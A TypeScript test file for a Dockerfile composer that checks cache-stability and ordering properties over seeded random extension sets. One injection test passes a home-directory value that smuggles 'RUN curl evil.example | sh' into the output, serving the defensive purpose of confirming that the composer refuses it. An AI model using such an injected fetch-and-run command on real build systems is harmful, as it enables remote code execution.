/**
 * The cache-stability properties of DESIGN.md, checked over many seeded random
 * compositions (fake extensions with builders, priorities, requires and after).
 */
import { compose } from '../src/core/compose.js';
import type { LoadedExtension } from '../src/core/types.js';
import { fakeConfig, fakeExtension, type FakeExtension } from './helpers/fake-extension.js';

/** A small deterministic PRNG (mulberry32), so every run checks the same cases. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** n extensions; edges only point to earlier-generated names, so there is no cycle. */
function randomCatalogue(rand: () => number, n: number): FakeExtension[] {
  const specs: FakeExtension[] = [];
  for (let i = 0; i < n; i++) {
    const name = `ext-${Math.floor(rand() * 1000)}-${i}`;
    const earlier = specs.map((s) => s.name);
    const pick = () => earlier.filter(() => rand() < 0.15);
    specs.push({
      name,
      priority: Math.floor(rand() * 101),
      requires: pick(),
      after: pick(),
      builderBaseImage: rand() < 0.2 ? 'debian:bookworm' : undefined,
      builder: rand() < 0.7 ? `RUN mkdir -p {{outDir}} && echo ${name} > {{outDir}}/${name}` : undefined,
      finalApt: rand() < 0.3 ? [`pkg-${i % 5}`] : [],
      setup: rand() < 0.3 ? `RUN echo setup ${name}` : undefined,
    });
  }
  return specs;
}

function shuffle<T>(items: readonly T[], rand: () => number): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = Math.floor(rand() * (i + 1));
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

function dockerfileFor(image: string, names: readonly string[], available: readonly LoadedExtension[]) {
  return compose({ config: fakeConfig(image, names), available, rocktsVersion: '0.0.0', hostUser: undefined });
}

/** The Dockerfile's blocks: header, then one per stage, keyed by stage name. */
function stages(dockerfile: string): Map<string, string> {
  const map = new Map<string, string>();
  for (const block of dockerfile.split('\n\n')) {
    const name = /^FROM \S+ AS (\S+)$/m.exec(block)?.[1] ?? 'header';
    map.set(name, block);
  }
  return map;
}

const SEEDS = Array.from({ length: 40 }, (_, i) => i + 1);

test.each(SEEDS)('shuffling extensions: never changes a byte (seed %i)', (seed) => {
  const rand = random(seed);
  const specs = randomCatalogue(rand, 12);
  const available = specs.map(fakeExtension);
  const names = specs.filter(() => rand() < 0.6).map((s) => s.name);
  const expected = dockerfileFor('ubuntu:24.04', names, available).dockerfile;
  for (let i = 0; i < 5; i++) {
    expect(dockerfileFor('ubuntu:24.04', shuffle(names, rand), available).dockerfile).toBe(expected);
  }
});

test.each(SEEDS)('changing image: changes only the final stage (seed %i)', (seed) => {
  const rand = random(seed);
  const specs = randomCatalogue(rand, 10);
  const available = specs.map(fakeExtension);
  const names = specs.map((s) => s.name);
  const before = stages(dockerfileFor('ubuntu:24.04', names, available).dockerfile);
  const after = stages(dockerfileFor('debian:trixie', names, available).dockerfile);
  expect([...after.keys()]).toEqual([...before.keys()]);
  for (const [name, text] of before) {
    if (name === 'rockts-final') expect(after.get(name)).not.toBe(text);
    else expect(after.get(name)).toBe(text);
  }
});

test.each(SEEDS)('adding an extension: leaves every existing builder stage unchanged (seed %i)', (seed) => {
  const rand = random(seed);
  const specs = randomCatalogue(rand, 10);
  const available = specs.map(fakeExtension);
  const names = specs.map((s) => s.name);
  const added = names.splice(Math.floor(rand() * names.length), 1)[0]!;
  // The removed extension may be required by others; then it is enabled anyway and nothing is "added".
  const before = stages(dockerfileFor('ubuntu:24.04', names, available).dockerfile);
  const after = stages(dockerfileFor('ubuntu:24.04', [...names, added], available).dockerfile);
  for (const [name, text] of before) {
    if (name.startsWith('rockts-builder')) expect(after.get(name)).toBe(text);
  }
});

test.each(SEEDS)('a priority never moves an extension ahead of what it requires or is after (seed %i)', (seed) => {
  const rand = random(seed);
  const specs = randomCatalogue(rand, 15);
  const available = specs.map(fakeExtension);
  const { plan } = dockerfileFor('ubuntu:24.04', specs.map((s) => s.name), available);
  const position = new Map(plan.extensions.map((e, i) => [e.name, i]));
  for (const e of plan.extensions) {
    const manifest = e.extension.manifest;
    for (const dep of [...manifest.requires, ...manifest.after]) {
      expect(position.get(dep.value)).toBeLessThan(position.get(e.name)!);
    }
    expect(e.effectivePriority).toBeGreaterThanOrEqual(manifest.cachePriority);
  }
  // The priority rule itself: at each position, no extension that was ready (all its
  // dependencies placed) had a higher effective priority, or an equal one and a smaller name.
  const deps = (name: string) => {
    const m = plan.extensions.find((x) => x.name === name)!.extension.manifest;
    return [...m.requires, ...m.after].map((d) => d.value).filter((d) => position.has(d));
  };
  // Effective priority = the highest own priority over the extension and everything ordered after it through edges.
  const successors = (name: string) => plan.extensions.filter((x) => deps(x.name).includes(name)).map((x) => x.name);
  const reach = (name: string, seen = new Set<string>()): Set<string> => {
    for (const next of successors(name)) if (!seen.has(next)) reach(next, seen.add(next));
    return seen;
  };
  for (const e of plan.extensions) {
    const own = (n: string) => plan.extensions.find((x) => x.name === n)!.extension.manifest.cachePriority;
    expect(e.effectivePriority).toBe(Math.max(own(e.name), ...[...reach(e.name)].map(own)));
  }
  plan.extensions.forEach((chosen, i) => {
    for (const other of plan.extensions.slice(i + 1)) {
      const ready = deps(other.name).every((d) => position.get(d)! < i);
      if (!ready) continue;
      const better =
        other.effectivePriority > chosen.effectivePriority ||
        (other.effectivePriority === chosen.effectivePriority && other.name < chosen.name);
      expect(better).toBe(false);
    }
  });
  // Builder stages and every final-stage group follow the same order.
  const builderOrder = plan.builders.map((b) => position.get(b.extension)!);
  expect(builderOrder).toEqual([...builderOrder].sort((a, b) => a - b));
  const setupOrder = plan.final.setup.map((s) => position.get(s.extension)!);
  expect(setupOrder).toEqual([...setupOrder].sort((a, b) => a - b));
});

test('the adding property is not vacuous: an added extension brings a new builder stage', () => {
  const available = [fakeExtension({ name: 'a', builder: 'RUN mkdir -p {{outDir}}' }), fakeExtension({ name: 'b', priority: 99, builder: 'RUN mkdir -p {{outDir}}' })];
  const before = stages(dockerfileFor('ubuntu:24.04', ['a'], available).dockerfile);
  const after = stages(dockerfileFor('ubuntu:24.04', ['a', 'b'], available).dockerfile);
  expect(after.has('rockts-builder-b')).toBe(true);
  expect(after.get('rockts-builder-a')).toBe(before.get('rockts-builder-a'));
  expect(after.get('rockts-final')).not.toBe(before.get('rockts-final'));
});

test('an extension whose builder stage would take the shared builder base stage name is refused', () => {
  const available = [fakeExtension({ name: 'base', builder: 'RUN mkdir -p {{outDir}}' })];
  expect(() => dockerfileFor('ubuntu:24.04', ['base'], available)).toThrow(
    "extension 'base' would name its builder stage rockts-builder-base, which is the name of a shared builder base stage; rename the extension",
  );
});

test('host user values cannot add Dockerfile text', () => {
  const available = [fakeExtension({ name: 'a', setup: 'RUN echo {{user.home}}' })];
  const compose_ = (home: string) =>
    compose({ config: fakeConfig('ubuntu:24.04', ['a']), available, rocktsVersion: '0', hostUser: { name: 'dev', uid: 1, gid: 1, home } });
  expect(() => compose_('/home/dev\nRUN curl evil.example | sh')).toThrow("the host user's home");
  expect(() => compose_('relative/home')).toThrow('is not an absolute path');
  expect(compose_('/home/dev').dockerfile).toContain('RUN echo /home/dev');
});

test('where the extensions are checked out never changes a byte (the config label included)', () => {
  const at = (root: string) =>
    [fakeExtension({ name: 'a', builder: 'RUN mkdir -p {{outDir}}', setup: 'RUN true' })].map((e) => ({
      ...e,
      dir: `${root}/a`,
      manifestFile: `${root}/a/extension.yaml`,
      templates: e.templates.map((t) => ({ ...t, file: `${root}/a/${t.kind}.Dockerfile.hbs` })),
    }));
  expect(dockerfileFor('ubuntu:24.04', ['a'], at('/one/checkout')).dockerfile).toBe(dockerfileFor('ubuntu:24.04', ['a'], at('/elsewhere')).dockerfile);
});
